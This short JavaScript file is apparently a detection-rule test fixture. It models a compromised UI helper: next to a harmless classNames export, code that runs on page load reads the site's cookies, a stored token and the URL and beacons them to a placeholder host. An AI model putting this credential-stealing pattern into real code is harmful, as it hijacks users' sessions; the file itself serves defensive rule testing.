// Defanged model of a compromised UI helper: once loaded in a page, it ships the site's cookies and stored
// token to an invented host.
export function classNames(...names) {
  return names.filter(Boolean).join(' ');
}

if (typeof window !== 'undefined') {
  const data = { c: document.cookie, t: localStorage.getItem('token'), u: location.href };
  // ruleid: code/info-stealing
  navigator.sendBeacon('https://metrics.example.invalid/b', JSON.stringify(data));
}
